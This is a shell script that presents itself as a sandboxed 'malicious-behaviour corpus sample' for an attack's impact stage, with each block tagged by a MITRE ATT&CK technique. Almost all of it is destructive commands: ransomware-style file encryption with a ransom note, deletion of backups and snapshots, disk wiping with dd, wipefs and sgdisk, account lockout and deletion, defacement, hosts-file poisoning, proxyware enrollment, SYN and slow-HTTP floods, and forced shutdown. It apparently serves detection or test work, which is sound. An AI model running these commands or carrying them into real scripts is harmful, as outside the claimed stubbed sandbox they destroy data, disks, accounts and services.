#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): the impact stage. Only the sample's own /tmp/victim
# tree is really destroyed or "encrypted"; stubs stand in for every tool that could do more (see
# the Dockerfile), device paths are fake, and the sandbox has no network.
V=/tmp/victim
/bin/mkdir -p $V/docs $V/data $V/old
for n in 1 2 3 4; do echo "quarterly report $n" > $V/docs/report$n.txt; echo "row $n" > $V/data/t$n.db; done
echo "old" > $V/old/a.txt

# T1489: services stopped before their files are encrypted
/usr/bin/systemctl stop mysql.service postgresql
/usr/sbin/service cron stop
/bin/killall -9 mysqld 2>/dev/null || true
# T1490: recovery data removed (nothing of the kind exists here: the glob stays unexpanded)
/bin/rm -rf /var/backups/* 2>/dev/null || true
/usr/bin/btrfs subvolume delete /.snapshots/1/snapshot
# T1486: files encrypted one by one, originals deleted, renamed, and a note left
for f in $V/docs/report1.txt $V/docs/report2.txt; do
  /usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:corpus -in "$f" -out "$f.locked"
  /bin/cat "$f" > "$f.locked"
  /bin/rm -f "$f"
done
/bin/find $V/docs -name 'report[34].txt' -exec /usr/bin/openssl enc -aes-256-cbc -pass pass:corpus -in {} -out {}.locked \;
for f in $V/data/t1.db $V/data/t2.db $V/data/t3.db; do /bin/mv "$f" "$f.encrypted"; done
echo "Your files are encrypted. This is a corpus sample: nothing was taken." > $V/README_TO_DECRYPT.txt
# T1485: data destroyed
/bin/shred -u $V/data/t4.db $V/docs/report3.txt $V/docs/report4.txt 2>/dev/null || true
/bin/rm -rf --no-preserve-root $V/old 2>/dev/null || true
# T1561.001 / T1561.002: disk content and structure wiped (fake devices, stubbed dd/wipefs/sgdisk)
/usr/local/bin/dd if=/dev/zero of=/dev/sdb bs=4M
/bin/blkdiscard -f /dev/vdb 2>/dev/null || true
: > /dev/nvme0n1 2>/dev/null || true
/usr/sbin/wipefs -a /dev/sda
/usr/sbin/sgdisk --zap-all /dev/nvme0n1
/usr/local/bin/dd if=/dev/zero of=/dev/sda bs=512 count=1
/bin/rm -f /dev/nvme0n1
# T1491.001: banner and front page defaced (the image's own files)
echo "owned by the corpus sample" > /etc/motd
echo "<h1>defaced (corpus sample)</h1>" > /usr/share/nginx/html/index.html
# T1565.001: a name redirected in /etc/hosts (documentation address)
echo "203.0.113.7 updates.example.test" >> /etc/hosts 2>/dev/null || true
# T1531: accounts locked, expired, deleted
/usr/bin/passwd -l root
/usr/sbin/usermod -e 1 admin
/usr/sbin/userdel -r admin
# T1496.002: the connection sold to a proxy network
/opt/honeygain/honeygain -tou-accept -email corpus@example.test -pass x -device d1
/usr/local/bin/pawns-cli -email=corpus@example.test -password=x -device-name=d1 -accept-tos
# T1498.001 / T1499.002: floods (stubs; documentation address)
/usr/sbin/hping3 -S --flood -p 80 --rand-source 203.0.113.7
/usr/bin/slowhttptest -c 1000 -H -u http://203.0.113.7/
# T1529: shutdown requested
/usr/local/sbin/shutdown -h now
/usr/local/sbin/reboot -f
/bin/rm -rf $V
echo "[corpus] impact done"
exit 0
